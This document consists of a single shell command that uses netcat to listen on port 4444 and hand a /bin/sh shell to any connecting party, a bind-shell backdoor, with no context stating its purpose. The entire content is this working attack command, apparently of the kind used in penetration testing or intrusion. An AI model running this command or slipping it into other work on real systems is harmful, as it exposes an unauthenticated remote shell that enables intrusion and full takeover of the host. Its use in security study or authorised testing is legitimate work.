nc -lvp 4444 -e /bin/sh
